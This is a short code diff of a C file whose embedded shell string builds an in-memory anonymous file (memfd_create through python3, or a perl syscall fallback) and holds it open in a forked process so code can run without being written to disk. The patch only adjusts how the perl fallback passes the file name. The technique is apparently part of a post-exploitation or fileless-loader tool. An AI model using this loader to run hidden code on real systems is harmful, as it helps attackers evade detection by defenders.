@@ -43,7 +43,7 @@ static const char memory[] =
 	"p=$(python3 -c \"import os,time;f=os.memfd_create(\\\"ramet\\\",0);p=os.fork();"
 	"os.write(1,b\\\"%d/fd/%d\\\"%(p,f)) if p else [os.close(0),os.close(1),os.close(2),"
 	"time.sleep(9)]\" 2>/dev/null||"
-	"perl -e \"\\$f=syscall($k,q(ramet),0);exit 1 if \\$f<0;if(\\$p=fork){print "
+	"perl -e \"\\$n=q(ramet);\\$f=syscall($k,\\$n,0);exit 1 if \\$f<0;if(\\$p=fork){print "
 	"qq(\\$p/fd/\\$f)}"
 	"else{close STDIN;close STDOUT;close STDERR;sleep 9}\" 2>/dev/null);"
 	"if [ -n \"$p\" ]&&[ -e /proc/$p ];then exec 4</proc/$p "
